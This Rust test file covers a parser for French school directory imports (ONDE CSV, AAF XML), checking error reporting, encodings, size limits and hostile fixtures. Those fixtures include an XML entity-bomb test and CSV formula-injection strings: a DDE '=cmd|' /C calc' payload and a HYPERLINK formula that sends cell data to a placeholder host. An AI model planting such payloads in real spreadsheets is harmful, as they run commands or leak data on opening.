//! Whole files through the dispatcher: format detection, and the hostile fixtures.

use super::*;
use crate::account::Role;

fn found(parsed: &Parsed) -> Vec<(u64, &str)> {
    parsed.issues.iter().map(|i| (i.line, i.field.as_str())).collect()
}

#[test]
fn formats_are_chosen_by_name_then_content() {
    assert_eq!(detect("CSVExtraction-eleves.csv", b""), Format::Onde(OndeKind::Eleves));
    assert_eq!(detect("C:\\Users\\dir\\CSVExtraction-élèves.csv", b""), Format::Onde(OndeKind::Eleves));
    assert_eq!(detect("CSVExtraction-enseignants.csv", b""), Format::Onde(OndeKind::Enseignants));
    assert_eq!(detect("CSVExtraction-responsables.csv", b""), Format::Onde(OndeKind::Responsables));
    assert_eq!(detect("CSVExtraction.csv", b""), Format::Csv);
    assert_eq!(detect("ENT_0123456A_Complet_20260901_Eleve_0000.xml", b""), Format::Aaf(AafKind::Eleve));
    assert_eq!(detect("ENT_0123456A_Complet_20260901_PersRelEleve_0000.xml", b""), Format::Aaf(AafKind::PersRelEleve));
    assert_eq!(detect("ENT_0123456A_Complet_20260901_PersEducNat_0000.xml", b""), Format::Aaf(AafKind::PersEducNat));
    assert_eq!(detect("ENT_0123456A_Complet_20260901_EtabEducNat_0000.xml", b""), Format::Aaf(AafKind::EtabEducNat));
    assert_eq!(detect("annuaire.xml", b""), Format::Aaf(AafKind::Unknown));
    assert_eq!(detect("eleves.csv", b""), Format::Csv);
    assert_eq!(detect("export", b"\xEF\xBB\xBF  <?xml version=\"1.0\"?>"), Format::Aaf(AafKind::Unknown));
    assert_eq!(detect("photo.jpg", b"\xFF\xD8\xFF"), Format::Unknown);
    let parsed = parse_bytes("photo.jpg", b"\xFF\xD8\xFF");
    assert_eq!(found(&parsed), [(1, "")]);
    assert!(parsed.issues[0].message.starts_with("format de fichier inconnu"));
}

#[test]
fn csv_without_telling_name_is_onde_by_its_headers() {
    let mut bytes = fixture!("onde/CSVExtraction-responsables.csv");
    let parsed = parse_bytes("CSVExtraction.csv", &bytes);
    assert_eq!((parsed.people.len(), parsed.complete), (4, true));
    bytes.truncate(0);
    bytes.extend_from_slice(&fixture!("onde/CSVExtraction-enseignants.csv"));
    let parsed = parse_bytes("profs.csv", &bytes);
    assert_eq!(parsed.people.len(), 3);
    assert_eq!(parsed.people[0].last_name, "LEFÈVRE");
    assert!(parsed.complete, "recognised as ONDE, so complete");
}

#[test]
fn bad_dates_and_other_row_errors_are_all_listed() {
    let parsed = parse_bytes("bad-date.csv", &fixture!("hostile/bad-date.csv"));
    assert_eq!(
        found(&parsed),
        [
            (3, "Date naissance"),
            (4, "Date naissance"),
            (6, "Date naissance"),
            (7, "Prénom Elève"),
            (7, "Classe"),
            (8, "Nom Elève"),
            (9, "Classe"),
        ],
        "{:#?}",
        parsed.issues
    );
    let messages: Vec<String> = parsed.issues.iter().map(|i| i.to_string()).collect();
    assert_eq!(messages[0], "bad-date.csv ligne 3 : date de naissance « 31/02/2015 » invalide (attendu JJ/MM/AAAA)");
    assert_eq!(messages[1], "bad-date.csv ligne 4 : date de naissance vide (attendu JJ/MM/AAAA)");
    assert_eq!(messages[2], "bad-date.csv ligne 6 : date de naissance « 08/13/2019 » invalide (attendu JJ/MM/AAAA)");
    assert_eq!(messages[3], "bad-date.csv ligne 7 : prénom de l'élève vide : complétez-le");
    assert!(messages[4].starts_with("bad-date.csv ligne 7 : classe « CE1/CE2 » invalide"), "{}", messages[4]);
    assert_eq!(
        messages[5],
        "bad-date.csv ligne 8 : élève « DUPONT Léa » en double (mêmes nom, prénom et date de naissance qu'à la \
         ligne 2) : supprimez le doublon dans ONDE"
    );
    assert!(messages[6].contains("« rendus » est réservé"), "{}", messages[6]);
    // The readable rows are still there.
    let people: Vec<(&str, Option<&str>, u64)> =
        parsed.people.iter().map(|p| (p.first_name.as_str(), p.birth_date.as_deref(), p.origin.line)).collect();
    assert_eq!(
        people,
        [("Léa", Some("2015-03-31"), 2), ("Maël", Some("2017-07-15"), 5), ("Hugo", Some("2019-09-21"), 9)]
    );
    assert!(parsed.people[2].classes.is_empty());
}

#[test]
fn each_missing_column_is_named_on_line_1() {
    let parsed = parse_bytes("missing-columns.csv", &fixture!("hostile/missing-columns.csv"));
    assert_eq!(found(&parsed), [(1, "Prénom Elève"), (1, "Date naissance")]);
    assert_eq!(
        parsed.issues[0].to_string(),
        "missing-columns.csv ligne 1 : colonne « Prénom Elève » absente : refaites l'export avec cette colonne (ou \
         renommez l'en-tête)"
    );
    assert!(parsed.people.is_empty());
    assert!(!parsed.complete);
}

#[test]
fn duplicate_xml_ids_are_reported_on_the_second_entry() {
    let parsed = parse_bytes("duplicate-ids.xml", &fixture!("hostile/duplicate-ids.xml"));
    assert_eq!(found(&parsed), [(57, "ENTPersonJointure")]);
    assert!(parsed.issues[0].message.starts_with("identifiant « 5100001 » déjà utilisé ligne 3"));
    let names: Vec<&str> = parsed.people.iter().map(|p| p.first_name.as_str()).collect();
    assert_eq!(names, ["Léa", "Zoé"]);
    assert!(parsed.people.iter().all(|p| p.role == Role::Pupil), "roles inferred from ENTPersonProfils");
}

#[test]
fn truncated_xml_keeps_what_was_read_and_says_where_it_stops() {
    let parsed = parse_bytes("truncated.xml", &fixture!("hostile/truncated.xml"));
    assert_eq!(parsed.issues.len(), 1, "{:?}", parsed.issues);
    assert_eq!(parsed.issues[0].line, 47);
    assert!(parsed.issues[0].message.contains("tronqué"), "{}", parsed.issues[0].message);
    assert_eq!(parsed.people.len(), 1);
    assert!(!parsed.complete);
    // Cut inside a tag rather than inside a text.
    let mut bytes = fixture!("hostile/truncated.xml");
    bytes.truncate(bytes.len() - 20);
    let parsed = parse_bytes("ENT_0123456A_Complet_20260901_Eleve_0000.xml", &bytes);
    assert_eq!(parsed.issues.len(), 1, "{:?}", parsed.issues);
    assert_eq!(parsed.issues[0].line, 46);
    assert!(!parsed.complete, "a truncated Complet export is not complete");
}

#[test]
fn entity_bombs_are_refused_before_any_expansion() {
    let parsed = parse_bytes("bomb.xml", &fixture!("hostile/bomb.xml"));
    assert_eq!(found(&parsed), [(2, "DOCTYPE")]);
    assert!(parsed.issues[0].message.contains("refusée"));
    assert!(parsed.people.is_empty());
    assert!(!parsed.complete);
    // Custom entities without a DOCTYPE are just unknown references.
    let xml = "<ficAlimMENESR><addRequest><attributes><attr name=\"ENTPersonJointure\"><value>1</value></attr>\
               <attr name=\"sn\"><value>&lol9;</value></attr><attr name=\"givenName\"><value>A</value></attr>\
               <attr name=\"ENTEleveClasses\"><value>3A</value></attr></attributes></addRequest></ficAlimMENESR>";
    let parsed = parse_bytes("x.xml", xml.as_bytes());
    assert_eq!(found(&parsed), [(1, "sn")]);
    assert!(parsed.people.is_empty());
}

#[test]
fn formula_looking_text_is_kept_verbatim() {
    let parsed = parse_bytes("injection.csv", &fixture!("hostile/injection.csv"));
    assert!(parsed.issues.is_empty(), "{:?}", parsed.issues);
    let names: Vec<&str> = parsed.people.iter().map(|p| p.last_name.as_str()).collect();
    assert_eq!(
        names,
        [
            "=cmd|' /C calc'!A0",
            "+33 6 00 00 00 00",
            "-2+3",
            "@SUM(1+1)",
            "=HYPERLINK(\"http://exemple.invalid/?x=\"&A1;\"clic\")",
            "Dupont"
        ]
    );
    let teacher = &parsed.people[5];
    assert_eq!((teacher.first_name.as_str(), teacher.email.as_deref()), ("=1+1", Some("=1+1@exemple.fr")));
    assert_eq!(teacher.role, Role::Teacher);
}

#[test]
fn wrong_encodings_are_refused_not_mangled() {
    // UTF-16 (Excel's "texte Unicode"): refused as a whole.
    let utf16: Vec<u8> = "\u{feff}Nom;Prénom\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let parsed = parse_bytes("eleves.csv", &utf16);
    assert_eq!(found(&parsed), [(1, "")]);
    assert!(parsed.issues[0].message.contains("UTF-16"));
    // A spreadsheet, a binary.
    assert!(parse_bytes("eleves.csv", b"PK\x03\x04\x14\x00").issues[0].message.contains("CSV"));
    assert!(parse_bytes("aaf.xml", b"<a>\x00\x00</a>").issues[0].message.contains("binaire"));
    // Bytes that are text in neither encoding: that row is refused, the others read.
    let data = b"Nom;Pr\xe9nom;Profil\nDupont;L\xe9a;\xe9l\xe8ve\nMartin;Z\x81\x8d;eleve\nRoux;Paul;parent\n";
    let parsed = parse_bytes("import.csv", data);
    assert_eq!(found(&parsed), [(3, "Prénom")]);
    assert_eq!(parsed.people.len(), 2);
    assert_eq!(parsed.people[0].first_name, "Léa");
    // A file that mixes UTF-8 and Latin-1 rows: read, with one issue for the whole file.
    let mixed = "Nom;Prénom;Profil\nDupont;Léa;eleve\nMartin;Zo\u{e9};eleve\n";
    let mut bytes = mixed.as_bytes().to_vec();
    bytes.extend_from_slice(b"Roux;Ma\xebl;eleve\nRoux;No\xe9;eleve\n");
    let parsed = parse_bytes("import.csv", &bytes);
    assert_eq!(found(&parsed), [(4, "")]);
    assert!(parsed.issues[0].message.contains("UTF-8 ligne 1, Latin-1 ligne 4"));
    let firsts: Vec<&str> = parsed.people.iter().map(|p| p.first_name.as_str()).collect();
    assert_eq!(firsts, ["Léa", "Zoé", "Maël", "Noé"]);
}

#[test]
fn oversized_and_deeply_nested_inputs_are_bounded() {
    // One 2 MB text node: over the per-event limit.
    let mut xml = b"<ficAlimMENESR>\n<addRequest><attributes><attr name=\"sn\"><value>".to_vec();
    xml.extend(std::iter::repeat_n(b'a', 2 << 20));
    xml.extend_from_slice(b"</value></attr></attributes></addRequest></ficAlimMENESR>");
    let parsed = parse_bytes("x.xml", &xml);
    assert_eq!(parsed.issues.len(), 1, "{:?}", parsed.issues);
    assert!(parsed.issues[0].message.contains("élément XML de plus de 1 Mo"), "{}", parsed.issues[0].message);
    // Nesting.
    let deep = "<a>".repeat(100);
    let parsed = parse_bytes("x.xml", deep.as_bytes());
    assert!(parsed.issues[0].message.contains("imbriqué"));
    // A CSV quote that never closes is bounded by the file limit, not buffered forever: a short one just
    // reads as one long cell.
    let parsed = parse_bytes("import.csv", b"nom;prenom;profil\n\"Dupont;L\xe9a;eleve\nMartin;Zo\xe9;eleve\n");
    assert!(parsed.people.is_empty());
    assert_eq!(found(&parsed), [(2, "nom")]);
    assert!(parsed.issues[0].message.contains("guillemet"));
}
